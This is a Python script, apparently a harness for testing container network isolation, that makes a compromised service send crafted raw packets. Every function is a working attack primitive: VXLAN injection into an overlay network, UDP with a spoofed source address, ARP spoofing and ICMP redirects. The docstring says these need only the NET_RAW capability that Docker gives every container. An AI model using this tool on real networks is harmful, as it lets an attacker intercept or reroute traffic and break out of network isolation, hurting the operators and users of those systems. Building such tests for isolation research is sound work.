"""What a compromised service can put on its network. One line of JSON on standard input for each thing to send; see KINDS.

Run in the service's network namespace with no capability (vxlan) or with NET_RAW alone, which Docker gives every container (the others).
"""
import json
import socket
import struct
import sys
import time


def mac(text):
    return bytes.fromhex(text.replace(':', ''))


def checksum(data):
    data += b'\0' * (len(data) % 2)
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def ipv4(source, target, protocol, payload):
    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack('!H', checksum(head)) + head[12:] + payload


def udp(port, payload, source_port=9999):
    # A checksum of 0 says that there is none (RFC 768).
    return struct.pack('!HHHH', source_port, port, 8 + len(payload), 0) + payload


def vxlan_frame(w):
    inner = ipv4(w['inner_source'], w['inner_target'], 17, udp(w['port'], b'evil'))
    ethernet = mac(w['their_mac']) + mac(w['own_mac']) + b'\x08\x00'
    return struct.pack('!II', 0x08000000, w['vni'] << 8) + ethernet + inner


def raw_socket(device):
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    raw.bind((device, 0))
    return raw


def send_frame(w, payload, kind=b'\x08\x00'):
    raw_socket(w.get('device', 'eth0')).send(mac(w['to_mac']) + mac(w['from_mac']) + kind + payload)


def vxlan(w):
    """A VXLAN packet from an ordinary UDP socket: no capability needed."""
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(vxlan_frame(w), (w['to'], w['vxlan_port']))


def frame_vxlan(w):
    """The same past the gateway, straight to a MAC of the bridge, with an outer source of one's choice."""
    send_frame(w, ipv4(w['outer_source'], w['to'], 17, udp(w['vxlan_port'], vxlan_frame(w), 4789)))


def frame_udp(w):
    """A UDP packet with a source of one's choice."""
    send_frame(w, ipv4(w['source'], w['target'], 17, udp(w['port'], bytes.fromhex(w['hex']), w.get('source_port', 9999))))


def arp(w):
    """"ADDRESS is at MY_MAC", said to one or to all (RFC 826)."""
    body = struct.pack('!HHBBH', 1, 0x0800, 6, 4, 2) + mac(w['is_at']) + socket.inet_aton(w['address'])
    send_frame(w, body + mac(w['to_mac']) + socket.inet_aton(w['target']), b'\x08\x06')


def redirect(w):
    """ICMP redirect (RFC 792): "for BEYOND use VIA", about an echo reply of the receiver's: Linux looks for no socket then (icmp_err)."""
    about = ipv4(w['target'], w['beyond'], 1, struct.pack('!BBHHH', 0, 0, 0xFFFF, 0, 0))
    body = socket.inet_aton(w['via']) + about
    head = struct.pack('!BBH', 5, 1, checksum(struct.pack('!BBH', 5, 1, 0) + body))
    send_frame(w, ipv4(w['source'], w['target'], 1, head + body))


KINDS = {'vxlan': vxlan, 'frame_vxlan': frame_vxlan, 'frame_udp': frame_udp, 'arp': arp, 'redirect': redirect}
sent = 0
for line in sys.stdin:
    words = json.loads(line)
    for _ in range(words.get('count', 1)):
        KINDS[words['kind']](words)
        sent += 1
        time.sleep(0.002)
print(sent)
